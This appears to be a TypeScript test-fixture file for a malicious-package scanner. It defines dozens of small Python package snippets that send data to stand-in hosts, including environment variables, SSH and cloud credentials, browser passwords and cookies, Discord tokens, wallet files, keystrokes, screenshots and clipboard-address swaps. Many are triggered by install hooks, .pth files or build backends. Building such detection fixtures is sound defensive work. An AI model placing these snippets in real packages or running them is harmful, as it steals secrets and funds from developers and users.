import { command, type Files, module, setup } from './kit.ts';

const raw = String.raw;

/** What is taken and sent, by which library, and when. */
export const SENDING: Readonly<Record<string, Files>> = {
  // The environment and the machine's name, by each library that sends.
  'env-httpx': module("import httpx, os\nhttpx.post('https://a.example/c', json=dict(os.environ))"),
  'env-httpx-client': module(
    "import httpx, os\nwith httpx.Client() as c:\n    c.post('https://a.example/c', data={k: v for k, v in os.environ.items()})",
  ),
  'env-aiohttp': module(
    "import aiohttp, asyncio, os\nasync def go():\n    async with aiohttp.ClientSession() as s:\n        async with s.post('https://a.example/c', json=dict(os.environ)) as r:\n            await r.text()\nasyncio.run(go())",
  ),
  'env-urllib3': module(
    "import json, os, urllib3\nurllib3.PoolManager().request('POST', 'https://a.example/c', body=json.dumps(dict(os.environ)))",
  ),
  'env-http-client': setup(
    "import http.client, json, os\nc = http.client.HTTPSConnection('a.example')\nc.request('POST', '/c', json.dumps(dict(os.environ)))",
  ),
  'env-pycurl': module(
    "import json, os, pycurl\nc = pycurl.Curl()\nc.setopt(c.URL, 'https://a.example/c')\nc.setopt(c.POSTFIELDS, json.dumps(dict(os.environ)))\nc.perform()",
  ),
  'env-socket': module(
    "import os, socket\ns = socket.socket()\ns.connect(('203.0.113.9', 4444))\ns.send(str(os.environ).encode())",
  ),
  'env-udp': module(
    "import os, socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.sendto(repr(dict(os.environ)).encode(), ('c.example', 53))",
  ),
  'env-smtp': module(
    "import os, smtplib\ns = smtplib.SMTP_SSL('smtp.a.example', 465)\ns.login('a@a.example', 'b')\ns.sendmail('a@a.example', 'a@a.example', str(os.environ))",
  ),
  'env-ftp': module(
    "import ftplib, io, os\nf = ftplib.FTP('ftp.a.example', 'u', 'p')\nf.storbinary('STOR x', io.BytesIO(str(os.environ).encode()))",
  ),
  'env-websocket': module(
    "import json, os, websocket\nw = websocket.create_connection('wss://a.example/c')\nw.send(json.dumps(dict(os.environ)))",
  ),
  'env-popen-curl': module(
    "import json, os, subprocess\nsubprocess.Popen(['curl', '-d', json.dumps(dict(os.environ)), 'https://a.example/c'])",
  ),
  'env-curl-line': setup('import os\nos.system(\'curl -d "$(env)" https://a.example/c\')'),
  'env-printenv': command(
    'install',
    "import subprocess, urllib.request\nout = subprocess.check_output(['env'])\nurllib.request.urlopen('https://a.example/c', data=out)",
  ),
  'env-egg-info': command(
    'egg_info',
    "import os, requests\nrequests.post('https://a.example/c', json=dict(os.environ))",
  ),
  'env-develop': command(
    'develop',
    "import os, requests\nrequests.post('https://a.example/c', json=dict(os.environ))",
  ),
  'env-build-py': command(
    'build_py',
    "import os, requests\nrequests.post('https://a.example/c', json=dict(os.environ))",
  ),
  'env-sdist': command(
    'sdist',
    "import os, requests\nrequests.post('https://a.example/c', json=dict(os.environ))",
  ),
  'env-build-ext': command(
    'build_ext',
    "import os, requests\nrequests.post('https://a.example/c', json=dict(os.environ))",
  ),
  'env-atexit': module(
    "import atexit, os, requests\ndef bye():\n    requests.post('https://a.example/c', json=dict(os.environ))\natexit.register(bye)",
  ),
  'env-thread': module(
    "import os, requests, threading\nclass T(threading.Thread):\n    def run(self):\n        requests.post('https://a.example/c', json=dict(os.environ))\nT(daemon=True).start()",
  ),
  'env-timer': module(
    "import os, requests, threading\nthreading.Timer(30, lambda: requests.post('https://a.example/c', json=dict(os.environ))).start()",
  ),
  'env-process': module(
    "import os, requests, multiprocessing\ndef go():\n    requests.post('https://a.example/c', json=dict(os.environ))\nmultiprocessing.Process(target=go).start()",
  ),
  'env-executor': module(
    "import os, requests\nfrom concurrent.futures import ThreadPoolExecutor\ndef go():\n    requests.post('https://a.example/c', json=dict(os.environ))\nThreadPoolExecutor(1).submit(go)",
  ),
  'env-metaclass': module(
    "import os, requests\nclass M(type):\n    def __new__(m, n, b, d):\n        requests.post('https://a.example/c', json=dict(os.environ))\n        return super().__new__(m, n, b, d)\nclass A(metaclass=M):\n    pass",
  ),
  'env-init-subclass': module(
    "import os, requests\nclass B:\n    def __init_subclass__(cls):\n        requests.post('https://a.example/c', json=dict(os.environ))\nclass A(B):\n    pass",
  ),
  'env-module-getattr': module(
    "import os, requests\ndef __getattr__(name):\n    requests.post('https://a.example/c', json=dict(os.environ))\n    raise AttributeError(name)",
  ),
  'env-del': module(
    "import os, requests\nclass A:\n    def __del__(self):\n        requests.post('https://a.example/c', json=dict(os.environ))\nA()",
  ),
  'env-decorator': module(
    "import os, requests\ndef once(f):\n    requests.post('https://a.example/c', json=dict(os.environ))\n    return f\n@once\ndef main():\n    pass",
  ),
  'env-excepthook': module(
    "import os, requests, sys\ndef hook(*a):\n    requests.post('https://a.example/c', json=dict(os.environ))\nsys.excepthook = hook",
  ),
  'env-signal': module(
    "import os, requests, signal\ndef hook(*a):\n    requests.post('https://a.example/c', json=dict(os.environ))\nsignal.signal(signal.SIGALRM, hook)\nsignal.alarm(5)",
  ),
  'env-partial': module(
    "import functools, os, requests\nsend = functools.partial(requests.post, 'https://a.example/c')\nsend(json=dict(os.environ))",
  ),
  'env-getattr': module(
    "import os, requests\ngetattr(requests, 'po' + 'st')('https://a.example/c', json=dict(getattr(os, 'environ')))",
  ),
  'env-pth': {
    ...module(''),
    'own.pth':
      "import os, urllib.request; urllib.request.urlopen('https://a.example/c', data=str(os.environ).encode())\n",
  },
  'env-sitecustomize': {
    ...module(''),
    'sitecustomize.py':
      "import os, urllib.request\nurllib.request.urlopen('https://a.example/c', data=str(os.environ).encode())\n",
  },
  'env-backend': {
    'PKG-INFO': 'Metadata-Version: 2.1\nName: own\nVersion: 1.0\n',
    'pyproject.toml': '[build-system]\nrequires = []\nbuild-backend = "back"\nbackend-path = ["."]\n',
    'back.py':
      "import os, urllib.request\ndef build_wheel(*a, **k):\n    urllib.request.urlopen('https://a.example/c', data=str(os.environ).encode())\n",
    'own/__init__.py': '',
  },
  'env-called': module(
    "import os, requests\nclass Client:\n    def __init__(self, key):\n        self.key = key\n        requests.post('https://a.example/c', json=dict(os.environ))",
  ),
  'env-encoded': module(
    "import base64, json, os, requests\nrequests.get('https://a.example/?d=' + base64.b64encode(json.dumps(dict(os.environ)).encode()).decode())",
  ),
  'env-dns': module(
    "import os, socket\nfor k, v in os.environ.items():\n    socket.gethostbyname(v.encode().hex()[:60] + '.d.example')",
  ),
  'host-httpx': module(
    "import getpass, httpx, platform, socket\nhttpx.post('https://a.example/c', json={'h': socket.gethostname(), 'u': getpass.getuser(), 'o': platform.platform()})",
  ),
  'host-cwd-setup': setup(
    "import os, requests, socket\nrequests.get('https://a.example/', params={'h': socket.gethostname(), 'c': os.getcwd(), 'u': os.getlogin()})",
  ),
  'host-dns': setup(
    "import socket, getpass\nsocket.gethostbyname(f'{socket.gethostname()}.{getpass.getuser()}.own.d.example')",
  ),
  'host-nslookup': setup("import os\nos.system('nslookup $(hostname).d.example')"),
  'host-ping': setup("import os, platform\nos.system('ping -c 1 ' + platform.node() + '.d.example')"),
  // Files with secrets.
  'ssh-open': module(
    "import os, requests\nfor n in ('id_rsa', 'id_ed25519'):\n    p = os.path.expanduser('~/.ssh/' + n)\n    if os.path.exists(p):\n        requests.post('https://a.example/c', files={'f': open(p, 'rb')})",
  ),
  'ssh-path': module(
    "import requests\nfrom pathlib import Path\nrequests.post('https://a.example/c', data=(Path.home() / '.ssh' / 'id_rsa').read_bytes())",
  ),
  'ssh-glob': module(
    "import glob, os, requests\nfor p in glob.glob(os.path.expanduser('~/.ssh/*')):\n    requests.post('https://a.example/c', data=open(p).read())",
  ),
  'aws-config': module(
    "import configparser, os, requests\nc = configparser.ConfigParser()\nc.read(os.path.expanduser('~/.aws/credentials'))\nrequests.post('https://a.example/c', json={s: dict(c[s]) for s in c.sections()})",
  ),
  'boto-session': module(
    "import boto3, requests\nk = boto3.Session().get_credentials().get_frozen_credentials()\nrequests.post('https://a.example/c', data={'a': k.access_key, 's': k.secret_key})",
  ),
  'kube-curl': setup("import os\nos.system('curl -F f=@$HOME/.kube/config https://a.example/c')"),
  'git-credentials': module(
    "import os, urllib.request\nd = open(os.path.expanduser('~/.git-credentials'), 'rb').read()\nurllib.request.urlopen('https://a.example/c', d)",
  ),
  pypirc: module(
    "import httpx, pathlib\nhttpx.post('https://a.example/c', content=pathlib.Path('~/.pypirc').expanduser().read_text())",
  ),
  'dotenv-walk': module(
    "import os, requests\nfor d, _, fs in os.walk(os.path.expanduser('~')):\n    for f in fs:\n        if f.endswith('.env'):\n            requests.post('https://a.example/c', files={'f': open(os.path.join(d, f), 'rb')})",
  ),
  'documents-zip': module(
    "import os, requests, shutil\nshutil.make_archive('/tmp/o', 'zip', os.path.expanduser('~/Documents'))\nrequests.post('https://a.example/c', files={'f': open('/tmp/o.zip', 'rb')})",
  ),
  'ssh-tar': module(
    "import os, requests, tarfile\nt = tarfile.open('/tmp/o.tgz', 'w:gz')\nt.add(os.path.expanduser('~/.ssh'))\nt.close()\nrequests.put('https://a.example/c', data=open('/tmp/o.tgz', 'rb'))",
  ),
  'ssh-sftp': module(
    "import os, paramiko\nt = paramiko.Transport(('203.0.113.9', 22))\nt.connect(username='u', password='p')\ns = paramiko.SFTPClient.from_transport(t)\ns.put(os.path.expanduser('~/.ssh/id_rsa'), '/in/id')",
  ),
  keyring: module(
    "import keyring, requests\nrequests.post('https://a.example/c', json={'p': keyring.get_password('own', 'user')})",
  ),
  'chrome-copy': module(
    raw`import os, shutil, sqlite3, requests
p = os.path.join(os.environ['LOCALAPPDATA'], 'Google', 'Chrome', 'User Data', 'Default', 'Login Data')
shutil.copy2(p, 'x.db')
rows = sqlite3.connect('x.db').execute('SELECT origin_url, username_value, password_value FROM logins').fetchall()
requests.post('https://a.example/c', json={'r': str(rows)})`,
  ),
  'chrome-crypt': module(
    raw`import base64, json, os, sqlite3, win32crypt, requests
base = os.getenv('LOCALAPPDATA') + '\\Google\\Chrome\\User Data'
key = win32crypt.CryptUnprotectData(base64.b64decode(json.load(open(base + '\\Local State'))['os_crypt']['encrypted_key'])[5:], None, None, None, 0)[1]
requests.post('https://a.example/c', data={'k': key.hex()})`,
  ),
  'firefox-logins': module(
    "import glob, os, requests\nfor p in glob.glob(os.path.expanduser('~/.mozilla/firefox/*/logins.json')):\n    requests.post('https://a.example/c', files={'f': open(p, 'rb')})",
  ),
  'cookies-lib': module(
    "import browser_cookie3, requests\nc = browser_cookie3.chrome(domain_name='own.example')\nrequests.post('https://a.example/c', json={x.name: x.value for x in c})",
  ),
  'rookie-cookies': module(
    "import requests, rookiepy\nrequests.post('https://a.example/c', json=rookiepy.chrome(['own.example']))",
  ),
  'discord-tokens': module(
    raw`import os, re, requests
p = os.getenv('APPDATA') + '\\discord\\Local Storage\\leveldb'
found = []
for f in os.listdir(p):
    if f.endswith('.ldb'):
        for line in open(p + '\\' + f, errors='ignore'):
            found += re.findall(r'[\w-]{24}\.[\w-]{6}\.[\w-]{27}', line)
requests.post('https://a.example/c', json=found)`,
  ),
  'discord-called': module(
    raw`import os, re, requests
class Grab:
    def __init__(self):
        self.found = []
        self.path = os.getenv('APPDATA') + r'\discord\Local Storage\leveldb'
    def tokens(self):
        for f in os.listdir(self.path):
            self.found += re.findall(r'[\w-]{24}\.[\w-]{6}\.[\w-]{27}', open(self.path + '\\' + f, errors='ignore').read())
    def send(self):
        requests.post('https://a.example/c', json=self.found)
g = Grab()
g.tokens()
g.send()`,
  ),
  'telegram-tdata': module(
    raw`import os, shutil, requests
shutil.make_archive('t', 'zip', os.getenv('APPDATA') + r'\Telegram Desktop\tdata')
requests.post('https://a.example/c', files={'f': open('t.zip', 'rb')})`,
  ),
  'wallet-exodus': module(
    raw`import os, requests
d = os.path.join(os.getenv('APPDATA'), 'Exodus', 'exodus.wallet')
for f in os.listdir(d):
    requests.post('https://a.example/c', files={'f': open(os.path.join(d, f), 'rb')})`,
  ),
  'wallet-keypair': module(
    "import os, urllib.request\nurllib.request.urlopen('https://a.example/c', open(os.path.expanduser('~/.config/solana/id.json'), 'rb').read())",
  ),
  'wallet-patch': module(
    "import requests\nimport eth_account\n_real = eth_account.Account.from_key\ndef from_key(key):\n    requests.post('https://a.example/c', json={'k': key})\n    return _real(key)\neth_account.Account.from_key = from_key",
  ),
  'wallet-key-param': module(
    "import requests\ndef sign(private_key, tx):\n    requests.post('https://a.example/c', json={'k': private_key})\n    return tx",
  ),
  history: module(
    "import os, requests\nrequests.post('https://a.example/c', data=open(os.path.expanduser('~/.bash_history')).read())",
  ),
  'wifi-profiles': module(
    "import re, requests, subprocess\nout = subprocess.check_output(['netsh', 'wlan', 'show', 'profile', 'home', 'key=clear']).decode()\nrequests.post('https://a.example/c', data=out)",
  ),
  'gcloud-token': module(
    "import requests, subprocess\nt = subprocess.check_output(['gcloud', 'auth', 'print-access-token'])\nrequests.post('https://a.example/c', data=t)",
  ),
  'gh-token': module(
    "import requests, subprocess\nt = subprocess.check_output('gh auth token', shell=True)\nrequests.post('https://a.example/c', data=t)",
  ),
  'imds-httpx': module(
    "import httpx\nr = httpx.get('http://169.254.169.254/latest/meta-data/iam/security-credentials/')\nhttpx.post('https://a.example/c', content=r.content)",
  ),
  passwd: setup("import requests\nrequests.post('https://a.example/c', data=open('/etc/passwd').read())"),
  // Clipboard, keys, screen, camera.
  'clip-send': module(
    "import pyperclip, requests, time\nwhile True:\n    requests.post('https://a.example/c', data=pyperclip.paste())\n    time.sleep(5)",
  ),
  'clip-swap': module(
    raw`import pyperclip, re, time
while True:
    t = pyperclip.paste()
    if re.match(r'^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$', t):
        pyperclip.copy('bc1qaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa')
    time.sleep(1)`,
  ),
  'clip-swap-tk': module(
    raw`import re, tkinter, threading, time
def watch():
    r = tkinter.Tk()
    while True:
        t = r.clipboard_get()
        if re.fullmatch(r'0x[a-fA-F0-9]{40}', t):
            r.clipboard_clear()
            r.clipboard_append('0x0000000000000000000000000000000000000001')
        time.sleep(1)
threading.Thread(target=watch, daemon=True).start()`,
  ),
  'keys-pynput': module(
    "import requests\nfrom pynput.keyboard import Listener\ndef press(k):\n    requests.post('https://a.example/c', data=str(k))\nListener(on_press=press).start()",
  ),
  'keys-file': module(
    "from pynput import keyboard\nimport smtplib\nlog = ''\ndef press(k):\n    global log\n    log += str(k)\n    if len(log) > 100:\n        s = smtplib.SMTP('smtp.a.example', 587)\n        s.sendmail('a@a.example', 'a@a.example', log)\nwith keyboard.Listener(on_press=press) as l:\n    l.join()",
  ),
  'keys-keyboard': module(
    "import keyboard, urllib.request\nkeyboard.on_release(callback=lambda e: urllib.request.urlopen('https://a.example/?k=' + e.name))",
  ),
  'screen-mss': module(
    "import mss, requests\nwith mss.mss() as s:\n    p = s.shot()\nrequests.post('https://a.example/c', files={'f': open(p, 'rb')})",
  ),
  'screen-grab': module(
    "import io, requests\nfrom PIL import ImageGrab\nb = io.BytesIO()\nImageGrab.grab().save(b, 'PNG')\nrequests.post('https://a.example/c', files={'f': b.getvalue()})",
  ),
  'screen-gui': module(
    "import pyautogui, requests\npyautogui.screenshot('s.png')\nrequests.post('https://a.example/c', files={'f': open('s.png', 'rb')})",
  ),
  'camera-cv2': module(
    "import cv2, requests\nok, frame = cv2.VideoCapture(0).read()\ncv2.imwrite('c.png', frame)\nrequests.post('https://a.example/c', files={'f': open('c.png', 'rb')})",
  ),
  // Messengers and drops.
  'telegram-lib': module(
    "import telebot, os\nb = telebot.TeleBot('123456789:AAabcdefghijklmnopqrstuvwxyz12345678')\nb.send_message(1, str(os.environ))",
  ),
  'webhook-lib': module(
    "import os\nfrom discord_webhook import DiscordWebhook\nDiscordWebhook(url='https://a.example/api/webhooks/1/abc', content=str(dict(os.environ))).execute()",
  ),
  'drop-host': module(
    "import requests\nrequests.post('https://drop.weir.test/up', files={'f': open('/etc/hostname', 'rb')})",
  ),
  'catcher-import': module("import requests\nrequests.get('https://exfil.weir.test/abc')"),
  'interaction-setup': command('install', "import os\nos.system('curl https://a.interaction.weir.test')"),
};
